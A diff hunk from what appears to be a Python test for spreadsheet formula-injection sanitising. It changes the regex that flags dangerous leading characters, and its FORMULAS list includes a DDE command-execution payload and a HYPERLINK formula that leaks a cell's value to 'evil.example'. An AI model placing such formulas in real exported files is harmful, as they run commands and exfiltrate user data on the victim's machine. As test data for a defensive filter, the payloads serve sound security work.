@@ -23,7 +23,7 @@ FORMULAS = [
     "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x", "'=1",
     "==1", '=HYPERLINK("http://evil.example?"&A1,"x")', "=\u202e1", "=1\x00".rstrip("\x00"), "@\x1b[2J", "=1\n=2",
 ]  # fmt: skip
-DANGEROUS = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
+DANGEROUS = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")
 cells = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=12)
 
 
